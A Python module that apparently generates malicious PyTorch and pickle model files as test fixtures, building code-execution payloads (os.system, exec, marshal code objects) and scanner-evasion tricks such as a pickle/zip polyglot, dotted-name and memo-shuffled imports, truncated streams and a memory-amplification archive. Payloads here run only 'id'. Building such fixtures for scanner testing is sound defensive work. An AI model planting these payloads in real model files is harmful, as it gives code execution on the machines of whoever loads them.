"""Puts malicious pickles together, opcode by opcode: building one neither pickles nor calls anything dangerous."""

from __future__ import annotations

import marshal
import struct
import textwrap
import zipfile
from pathlib import Path

MACHINE_CODE = bytes.fromhex("b814000000cd80c3")  # mov eax, 20 (getpid on i386); int 0x80; ret


class Opcodes(bytes):
    """A piece of a pickle, as against bytes that are a value in one."""


def literal(value: object) -> Opcodes:
    """A value as opcodes of protocol 3."""
    if isinstance(value, Opcodes):
        return value
    if value is None or isinstance(value, bool):
        return Opcodes({None: b"N", True: b"\x88", False: b"\x89"}[value])
    if isinstance(value, int):
        return Opcodes(b"L%dL\n" % value)
    if isinstance(value, str):
        raw = value.encode()
        return Opcodes(b"X" + struct.pack("<I", len(raw)) + raw)
    if isinstance(value, bytes):
        return Opcodes(b"B" + struct.pack("<I", len(value)) + value)
    if isinstance(value, list | tuple):
        end = b"l" if isinstance(value, list) else b"t"
        return Opcodes(b"(" + b"".join(map(literal, value)) + end)
    if isinstance(value, dict):
        return Opcodes(b"}" + b"".join(literal(key) + literal(item) + b"s" for key, item in value.items()))
    raise TypeError(type(value).__name__)


def named(module: str, name: str) -> Opcodes:
    """GLOBAL."""
    return Opcodes(f"c{module}\n{name}\n".encode())


def called(callee: Opcodes, *args: object) -> Opcodes:
    """REDUCE."""
    return Opcodes(callee + literal(args) + b"R")


def call(module: str, name: str, *args: object) -> Opcodes:
    return called(named(module, name), *args)


def run(source: str) -> Opcodes:
    """Python source, executed with a namespace of its own, so that its functions see its imports."""
    return call("builtins", "exec", textwrap.dedent(source), {})


def stream(body: object, protocol: int = 3) -> bytes:
    """A whole pickle."""
    return b"\x80" + bytes([protocol]) + literal(body) + b"."


def model(payload: Opcodes, **more: object) -> dict[str, object]:
    """What the payload hides in."""
    return {"epoch": 3, "scale": [1, 2, 3], "blob": MACHINE_CODE, **more, "hook": payload}


def bare(payload: Opcodes, path: Path) -> None:
    path.write_bytes(stream(model(payload)))


def tensor(key: str, shape: tuple[int, ...], strides: tuple[int, ...], numel: int, *, legacy: bool = False) -> Opcodes:
    """A float32 tensor whose bytes are in storage `key`."""
    pid = ("storage", named("torch", "FloatStorage"), key, "cpu", numel) + ((None,) if legacy else ())
    storage = Opcodes(literal(pid) + b"Q")
    hooks = call("collections", "OrderedDict")
    return call("torch._utils", "_rebuild_tensor_v2", storage, 0, shape, strides, False, hooks)


def archive(body: object, storages: dict[str, bytes], path: Path) -> None:
    """A PyTorch zip archive, records stored and aligned as torch does."""
    with zipfile.ZipFile(path, "w") as target:
        rows = {f"data/{key}": data for key, data in storages.items()}
        rows |= {"data.pkl": stream(body, 2), "byteorder": b"little", "version": b"3\n"}
        for name, data in rows.items():
            entry = zipfile.ZipInfo(f"archive/{name}")
            start = target.fp.tell() + 30 + len(entry.filename) + 4 if target.fp else 0
            padding = -start % 64
            entry.extra = struct.pack("<HH", 0x4246, padding) + b"Z" * padding
            target.writestr(entry, data)


FLOATS = struct.pack("<6f", 0.5, -1.0, 2.0, 3.0, 4.0, 5.0)


def torch_zip(payload: Opcodes, path: Path) -> None:
    """The weights first, so that a payload finds them in memory."""
    archive(model(payload, weight=tensor("0", (2, 3), (3, 1), 6)), {"0": FLOATS}, path)


def torch_legacy(payload: Opcodes, path: Path) -> None:
    """PyTorch's format before 1.6: five pickles, then each storage."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    body = model(payload, weight=tensor("0", (2, 3), (3, 1), 6, legacy=True))
    parts = [stream(0x1950A86A20F9469CFC6C, 2), stream(1001, 2), stream(system, 2), stream(body, 2), stream(["0"], 2)]
    path.write_bytes(b"".join(parts) + struct.pack("<q", 6) + FLOATS)


def polyglot(path: Path) -> None:
    """A pickle to who reads from the front, a PyTorch archive to who reads from the back."""
    torch_zip(literal(None), path)
    path.write_bytes(stream(model(call("posix", "system", "id"))) + path.read_bytes())


def amplification(path: Path) -> None:
    """4 MB that ask for terabytes: one storage, expanded, under thousands of names."""
    numel = 1 << 20
    archive(
        {f"w{at}": tensor("0", (1 << 10, numel), (0, 1), numel) for at in range(1000)}, {"0": bytes(4 * numel)}, path
    )


def class_patch(path: Path) -> None:
    """BUILD on a class and not on an object of it: changes the class for everybody."""
    path.write_bytes(stream(Opcodes(named("argparse", "Namespace") + literal({"patched": True}) + b"b")))


def dotted_name(path: Path) -> None:
    """Protocol 4 walks dots in a name: uuid imports os."""
    path.write_bytes(b"\x80\x04\x8c\x04uuid\x8c\x09os.system\x93" + literal(("id",)) + b"R.")


def payload_then_broken(path: Path) -> None:
    """No STOP, and an opcode that doesn't exist."""
    path.write_bytes(b"\x80\x03" + call("posix", "system", "id") + b"\xff garbage")


def memo_shuffle(path: Path) -> None:
    """STACK_GLOBAL of two texts that are fetched from the memo, out of order, past decoys on the stack."""
    texts = b"".join(b"\x8c" + bytes([len(text)]) + text + b"\x94" for text in (b"system", b"numpy", b"posix"))
    path.write_bytes(b"\x80\x04" + texts + b"000" + b"h\x02h\x00\x93" + literal(("id",)) + b"R.")


def code_object(source: str) -> Opcodes:
    """A compiled function, brought along by marshal."""
    code = marshal.dumps(compile(textwrap.dedent(source), "x", "exec"))
    loaded = call("marshal", "loads", code)
    return called(call("types", "FunctionType", loaded, {"__builtins__": named("builtins", "__dict__")}))
